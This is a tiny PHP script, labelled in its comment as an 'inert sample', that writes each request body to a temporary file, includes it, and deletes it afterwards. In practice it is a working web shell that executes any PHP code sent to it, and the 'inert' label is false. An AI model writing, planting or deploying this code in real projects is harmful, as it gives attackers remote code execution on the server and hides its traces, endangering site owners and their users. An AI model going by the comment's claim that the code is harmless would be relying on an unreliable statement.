<?php
// inert sample: the request body is copied into a temporary file, which is then included
$spool = tempnam(sys_get_temp_dir(), 'sp');
copy('php://input', $spool);
include $spool;
@unlink($spool);
